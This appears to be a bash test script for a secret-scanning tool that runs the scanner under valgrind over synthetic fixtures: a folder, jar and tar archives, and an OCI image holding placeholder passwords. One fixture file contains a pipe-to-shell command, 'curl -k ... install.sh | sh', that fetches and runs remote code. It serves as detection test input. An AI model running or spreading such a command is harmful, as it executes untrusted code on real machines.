#!/usr/bin/env bash
# Valgrind is silent on a scan of everything at once: a folder, archives in it, standard input, an
# image, every format of report.
# slow
. "$(dirname "$0")/lib.sh"
command -v valgrind >/dev/null || { fail 'valgrind is not installed'; exit 1; }

mkdir -p tree/.git tree/sub
printf 'token = %s\n' "$token" >tree/secret.txt
printf 'services:\n  db:\n    environment:\n      - POSTGRES_PASSWORD=pass\n' >tree/docker-compose.yml
printf 'curl -k https://x.example/install.sh | sh\n' >tree/sub/a.sh
printf '*.log\n' >tree/.gitignore
printf 'not looked at\n' >tree/a.log
python3 - <<'PY'
import gzip, hashlib, io, json, tarfile, zipfile
def tar_of(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name); info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()
secret = b"DB_PASSWORD=correct-horse-battery-9\n"
jar = io.BytesIO()
with zipfile.ZipFile(jar, "w") as z: z.writestr("conf/app.env", secret)
open("tree/some.jar", "wb").write(jar.getvalue())
open("tree/some.tar.gz", "wb").write(gzip.compress(tar_of({"a.env": secret, "in.jar": jar.getvalue()})))
layer = gzip.compress(tar_of({"srv/a.env": secret, "srv/lib.jar": jar.getvalue()}))
blobs = {}
def add(data):
    digest = hashlib.sha256(data).hexdigest(); blobs["blobs/sha256/" + digest] = data
    return {"digest": "sha256:" + digest, "size": len(data)}
config = add(json.dumps({"config": {"Env": ["TOKEN_PASSWORD=pass"]}, "rootfs": {"type": "layers", "diff_ids": []}}).encode())
manifest = add(json.dumps({"schemaVersion": 2, "config": config, "layers": [dict(add(layer), mediaType="application/vnd.oci.image.layer.v1.tar+gzip")]}).encode())
index = json.dumps({"schemaVersion": 2, "manifests": [dict(manifest, mediaType="application/vnd.oci.image.manifest.v1+json")]}).encode()
open("image.tar", "wb").write(tar_of({"oci-layout": b'{"imageLayoutVersion":"1.0.0"}', "index.json": index, **blobs}))
PY

for arguments in 'tree image.tar -j1 -f text -o out.sarif -o out.json -o out.jsonl' 'tree image.tar -j2 -f sarif' 'image.tar --show-secrets'; do
    status=0
    # shellcheck disable=SC2086
    valgrind -q --error-exitcode=99 --leak-check=full --errors-for-leak-kinds=definite "$VETO" scan --no-cache $arguments \
        >"$io/stdout" 2>"$io/stderr" || status=$?
    [ "$status" = 1 ] || fail "valgrind on $arguments: status $status"
done
